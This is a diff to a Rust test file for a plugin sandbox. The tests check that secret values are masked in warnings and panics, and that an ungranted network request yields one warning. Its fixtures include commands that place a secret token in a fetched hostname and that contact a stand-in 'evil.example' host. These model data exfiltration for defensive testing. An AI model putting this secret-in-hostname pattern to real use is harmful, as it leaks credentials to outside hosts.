@@ -284,10 +284,33 @@ fn the_value_of_a_variable_leaves_the_sandbox_nowhere() {
             assert_eq!(state.bytes, "••••".as_bytes());
         }
     }
-    let host = network(&format!("fetch https://{secret}.example/"), &[]);
-    let message = only_warning(with_variable(host, "TOKEN", secret)).message;
-    assert!(
-        message.contains("asked for ••••.example, which"),
-        "{message}"
+    for given in [secret, "Hunter22-LONG"] {
+        let host = network(&format!("fetch https://{given}.example/"), &[]);
+        let message = only_warning(with_variable(host, "TOKEN", given)).message;
+        assert!(
+            message.contains("asked for ••••.example, which"),
+            "{message}"
+        );
+    }
+}
+
+#[test]
+fn a_value_of_several_lines_is_masked_before_a_panic_is_told_in_one() {
+    let panicking = with_variable(network("panic TOKEN", &[]), "TOKEN", "ab  cd\n\nef gh");
+    let message = only_warning(panicking).message;
+    assert_eq!(
+        message,
+        "plugin network (brief) panicked: no luck with ••••"
     );
+}
+
+#[test]
+fn a_call_costs_one_warning_whatever_was_wrong_with_it() {
+    let warning = only_warning(network("misuse https://evil.example/", &[]));
+    assert_eq!(
+        warning.message,
+        "plugin network (brief) asked for evil.example, which it is not granted, and it gave 30 sections; \
+         the first 20 count; it gave the trailer \"Signed-off-by\", which no plugin may, so that was dropped"
+    );
+    assert!(warning.hint.unwrap().contains("`allow`"));
 }
